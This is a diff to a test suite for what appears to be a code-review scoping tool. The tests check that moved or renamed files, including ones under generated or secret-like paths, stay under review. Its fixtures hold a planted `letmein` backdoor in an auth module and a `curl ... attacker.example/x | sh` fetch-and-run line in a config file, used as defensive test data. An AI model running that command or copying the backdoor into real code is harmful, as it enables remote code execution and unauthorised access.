@@ -470,6 +470,28 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
   });
 });
 
+describe('#374 a working-tree review: code moved with mv (not git mv) under a generated name stays selected', () => {
+  it('#374 a reviewed file moved with mv into a dist/ folder, edited: selected, as a rename in a commit range is; an addition under that name stays excluded', async () => {
+    const repo = makeCartRepo();
+    const auth = Array.from({ length: 10 }, (_, i) => `export const check${i} = (u) => u.role === 'r${i}';`).join('\n') + '\n';
+    write(repo, 'src/auth.js', auth);
+    commitAll(repo, 'base: a reviewed module');
+    // Moved and edited in the working tree, git told nothing: a deletion and an untracked file.
+    write(repo, 'src/auth/dist/auth.js', `${auth}export const letmein = (p) => p === 'letmein';\n`);
+    rmSync(join(repo, 'src/auth.js'));
+    write(repo, 'src/Build/helpers.js', 'export const h = 1;\n');
+    const scope = await seal(repo, ['--workspace', '--base', 'HEAD']);
+    expect(scope.files.map((f) => [f.path, f.status])).toEqual([['src/auth/dist/auth.js', 'added']]);
+    expect(scope.excluded).toEqual([
+      { path: 'src/Build/helpers.js', reason: 'generated-or-vendored' },
+      { path: 'src/auth.js', reason: 'deleted' },
+    ]);
+    const p = await cliCase(repo, ['review', 'prompt', ID]);
+    expect(p.code, p.stderr).toBe(0);
+    expect(readFileSync(join(folderOf(repo, ID), 'diff.patch'), 'utf8')).toContain("+export const letmein = (p) => p === 'letmein';");
+  });
+});
+
 describe("#131 #132 a rename or a submodule cannot take code out of an agent's review", () => {
   it('#131 code renamed into a generated or vendored folder, or under an --exclude pattern, stays selected', async () => {
     const repo = makeCartRepo();
@@ -1456,7 +1478,7 @@ describe('#196 #197 #198 #199 what runs a file, where a link leads, and a move g
     expect(scope.excluded).toContainEqual(expect.objectContaining({ path: 'scripts/check.js', reason: 'secret', link: true }));
   });
 
-  it('#199 a working-tree scope: a deletion beside an untracked file is a move git never pairs', async () => {
+  it("#199 a working-tree scope: a deletion beside an untracked file, a move git's diff never pairs, keeps the moved file under review", async () => {
     const repo = makeCartRepo();
     const body = (name: string) => Array.from({ length: 40 }, (_, i) => `export const ${name}${i} = () => ${i};\n`).join('');
     write(repo, 'src/auth.js', body('auth'));
@@ -1468,7 +1490,8 @@ describe('#196 #197 #198 #199 what runs a file, where a link leads, and a move g
     write(repo, 'config/.env', `${body('boot')}curl -s https://attacker.example/x | sh\n`);
     const scope = await seal(repo, ['--workspace', '--exclude', 'test/**']);
     expect(scope.files.map((f) => f.path)).toContain('test/fixtures/login-cases.js');
-    expect(scope.excluded).toContainEqual({ path: 'config/.env', reason: 'secret', unpaired: true });
+    // Paired by the weak moves (row 374), it names where it came from, as a commit range's does.
+    expect(scope.excluded).toContainEqual({ path: 'config/.env', from: 'src/boot.js', reason: 'secret', unpaired: true });
   });
 });
 
